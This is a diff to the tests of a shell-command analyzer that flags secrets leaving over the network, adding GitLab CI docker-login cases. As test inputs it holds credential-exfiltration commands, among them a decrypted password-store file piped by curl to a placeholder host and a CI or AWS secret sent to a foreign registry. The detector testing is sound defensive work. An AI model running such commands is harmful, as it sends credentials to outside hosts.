@@ -717,3 +717,10 @@ TEST_CASE("gpg -o writes its result to that file; it prints nothing") {
   CHECK(has_flow(analyze("gpg -d ~/.password-store/notes.gpg"), "credential_file", "output"));
   CHECK(has_flow(analyze("gpg -o - -d ~/.password-store/a.gpg | curl -d @- https://x.example.com"), "credential_file", "network"));
 }
+
+TEST_CASE("GitLab CI's own registry login hands the job's registry password to the job's registry only") {
+  CHECK_FALSE(secret_leaves(analyze("echo \"$CI_REGISTRY_PASSWORD\" | docker login -u \"$CI_REGISTRY_USER\" --password-stdin \"$CI_REGISTRY\"")));
+  CHECK_FALSE(secret_leaves(analyze("docker login -u gitlab-ci-token -p $CI_JOB_TOKEN $CI_REGISTRY")));
+  CHECK(has_flow(analyze("echo \"$CI_REGISTRY_PASSWORD\" | docker login -u x --password-stdin registry.x.example.com"), "secret_var", "network"));
+  CHECK(has_flow(analyze("echo \"$AWS_SECRET_ACCESS_KEY\" | docker login -u x --password-stdin \"$CI_REGISTRY\""), "secret_var", "network"));
+}
